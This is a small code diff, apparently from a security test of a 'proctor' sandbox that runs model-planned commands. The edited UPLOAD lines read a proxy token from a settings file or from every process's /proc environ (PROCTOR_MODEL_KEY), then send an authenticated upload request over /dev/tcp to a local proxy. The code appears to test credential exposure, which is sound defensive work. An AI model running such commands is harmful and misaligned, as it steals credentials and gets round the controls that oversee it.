@@ -30,7 +30,7 @@ const PLAN = { commands: [{ argv: ['node', '-e', 'console.log("planned by a mode
 
 /** Finds the proxy token, as any process in the sandbox can, and requests an upload with it. */
 const UPLOAD = [
-  String.raw`word=$(sed -n "s/.*echo '\([^']*\)'.*/\1/p" /opt/proctor/settings.json 2>/dev/null)`,
+  String.raw`word=$(sed -n 's/.*"echo \([^"]*\)".*/\1/p' /opt/proctor/settings.json 2>/dev/null)`,
   String.raw`[ -n "$word" ] || word=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sed -n 's/^PROCTOR_MODEL_KEY=//p' | head -1)`,
   String.raw`ask='POST /v1/files HTTP/1.1\r\nhost: x\r\nx-api-key: %s\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}'`,
   String.raw`WORD="$word" ASK="$ask" bash -c 'exec 3<>/dev/tcp/127.0.0.1/8417; printf "$ASK" "$WORD" >&3; cat <&3'`,
